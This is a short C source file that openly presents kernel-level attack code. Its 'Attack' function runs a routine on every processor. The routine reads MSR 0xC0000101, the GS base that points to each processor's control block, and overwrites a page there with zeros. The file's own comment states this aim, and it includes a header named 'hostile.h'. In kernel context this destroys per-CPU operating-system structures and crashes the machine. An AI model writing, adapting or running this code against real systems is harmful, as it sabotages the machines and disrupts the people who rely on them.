/* SPDX-License-Identifier: MIT */
/* Every processor fills its own control block with zeros. */
#include "hostile.h"

static VOID Routine(VOID)
{
    Fill((VOID *)ReadMsr(0xC0000101), 0, PAGE);
}

static VOID Attack(VOID)
{
    Everywhere(Routine);
}
